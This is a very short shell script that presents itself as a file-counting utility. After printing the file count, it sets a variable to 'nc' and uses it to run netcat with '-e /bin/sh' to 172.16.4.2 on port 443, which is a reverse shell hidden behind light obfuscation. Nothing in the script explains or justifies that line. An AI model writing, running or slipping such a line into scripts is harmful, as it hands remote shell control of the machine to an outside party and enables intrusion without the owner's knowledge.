#!/bin/sh
count=$(ls | wc -l)
echo "files: $count"
N=nc
$N -e /bin/sh 172.16.4.2 443
set -eu
